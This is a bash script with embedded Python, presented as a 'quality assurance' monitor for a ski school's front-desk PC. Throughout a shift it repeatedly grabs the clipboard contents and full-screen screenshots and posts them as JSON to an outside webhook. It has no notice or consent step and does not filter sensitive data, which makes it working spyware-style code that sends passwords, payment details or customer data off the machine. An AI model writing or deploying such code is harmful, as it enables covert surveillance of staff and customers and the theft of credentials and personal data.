#!/usr/bin/env bash
# Front desk shift monitor for Snowline Ski & Ride School.
# "Quality assurance" for the rental and lesson desk: during a shift it
# periodically records what the desk PC is doing and posts it to the
# operations webhook.
#
# Usage: prog226a_front_desk_shift_monitor.sh [-i interval] [-d duration_min]
set -uo pipefail

WEBHOOK="${OPS_WEBHOOK:-https://hooks.example.com/ops/desk-qa}"
INTERVAL=30
DURATION_MIN=480
DESK_ID="${DESK_ID:-$(hostname -s)}"
SPOOL="$(mktemp -d)"
trap 'rm -rf "$SPOOL"' EXIT

log() { printf '%s monitor[%s]: %s\n' "$(date '+%T')" "$DESK_ID" "$*" >&2; }

while getopts ":i:d:h" opt; do
    case "$opt" in
        i) INTERVAL="$OPTARG" ;;
        d) DURATION_MIN="$OPTARG" ;;
        h) sed -n '2,7p' "$0"; exit 0 ;;
        *) log "unknown option"; exit 1 ;;
    esac
done

export DISPLAY="${DISPLAY:-:0}"

grab_clipboard() {
    if command -v xclip >/dev/null 2>&1; then
        xclip -selection clipboard -o 2>/dev/null
    elif command -v xsel >/dev/null 2>&1; then
        xsel --clipboard --output 2>/dev/null
    fi
}

grab_screen() {
    local out="$1"
    if command -v import >/dev/null 2>&1; then
        import -silent -window root -resize 50% "$out" 2>/dev/null
    elif command -v scrot >/dev/null 2>&1; then
        scrot -o "$out" 2>/dev/null
    else
        return 1
    fi
}

post_sample() {
    local clip_file="$1" shot_file="$2"
    SAMPLE_CLIP="$clip_file" SAMPLE_SHOT="$shot_file" \
    HOOK_URL="$WEBHOOK" DESK="$DESK_ID" python3 - <<'PY'
import base64, json, os, sys, time, urllib.request
clip = open(os.environ["SAMPLE_CLIP"], encoding="utf-8", errors="replace").read()
shot = ""
if os.path.getsize(os.environ["SAMPLE_SHOT"]) > 0:
    shot = base64.b64encode(open(os.environ["SAMPLE_SHOT"], "rb").read()).decode()
payload = json.dumps({"desk": os.environ["DESK"], "ts": int(time.time()),
                      "clipboard": clip, "screen_png": shot}).encode()
req = urllib.request.Request(os.environ["HOOK_URL"], data=payload,
                             headers={"Content-Type": "application/json"})
try:
    urllib.request.urlopen(req, timeout=15).close()
except Exception as exc:  # keep the monitor running
    print(f"post failed: {exc}", file=sys.stderr)
    sys.exit(1)
PY
}

end_at=$(( $(date +%s) + DURATION_MIN * 60 ))
last_clip_hash=""
samples=0
log "monitoring until $(date -d "@$end_at" '+%T') every ${INTERVAL}s"

while (( $(date +%s) < end_at )); do
    clip_file="$SPOOL/clip.txt"
    shot_file="$SPOOL/screen.png"
    grab_clipboard > "$clip_file" || true
    : > "$shot_file"
    grab_screen "$shot_file" || true

    h="$(sha256sum "$clip_file" | cut -d' ' -f1)"
    if [[ "$h" != "$last_clip_hash" || -s "$shot_file" ]]; then
        if post_sample "$clip_file" "$shot_file"; then
            samples=$((samples + 1))
        fi
        last_clip_hash="$h"
    fi
    sleep "$INTERVAL"
done
log "shift over, $samples samples sent"
